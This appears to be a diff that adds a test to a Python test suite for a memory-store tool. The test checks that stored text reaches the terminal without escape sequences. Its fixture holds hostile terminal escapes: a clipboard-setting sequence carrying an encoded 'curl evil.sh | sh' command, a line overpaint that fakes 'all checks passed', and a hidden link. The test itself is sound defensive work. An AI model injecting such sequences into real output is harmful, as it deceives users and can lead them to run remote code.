@@ -559,3 +559,28 @@ def test_the_store_and_run_logs_are_private_to_the_user(tmp_path: Path, provider
         assert path.stat().st_mode & 0o777 == 0o600, path
     for folder in (store, log.parent, log.parent.parent):
         assert folder.stat().st_mode & 0o777 == 0o700, folder
+
+
+# ------------------------------------------------------- stored text never drives the terminal
+HOSTILE_TEXT = (
+    "use the staging db \x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"  # OSC 52: set the clipboard
+    "\x1b[2K\x1b[1A\rall checks passed"  # erase the line, move up, overpaint
+    " \x1b]8;;https://evil.example\x1b\\docs\x1b]8;;\x1b\\"  # a hidden link
+    " \x9b31m\x07\x08"  # an 8-bit CSI, a bell, a backspace
+)
+
+
+def test_stored_text_reaches_the_terminal_without_escape_sequences(tmp_path: Path) -> None:
+    root = make_project(tmp_path / "repo")
+    with swarmmem.open(root, context={"session_id": "s9", "agent_role": "coder"}) as mem:
+        memory_id = mem.list()[0].id
+        mem.record_outcome(memory_id=memory_id, outcome="corrected", correction=HOSTILE_TEXT)
+    command = install.swarmmem_command()
+    for args, stdin in ((["show", memory_id], ""), (["review"], "q\n"), (["pending"], "")):
+        done = run_shell(shlex.join([*command, *args]), cwd=root, stdin=stdin)
+        assert done.returncode == 0, done.stderr
+        shown = done.stdout + done.stderr
+        assert "use the staging db" in shown or args == ["pending"], (args, shown)
+        assert not any(c in shown for c in "\x1b\x07\x08\x9b\r"), (args, shown)
+    as_json = run_shell(shlex.join([*command, "--json", "show", memory_id]), cwd=root, stdin="")
+    assert "\x9b" not in as_json.stdout and "\\u009b" in as_json.stdout
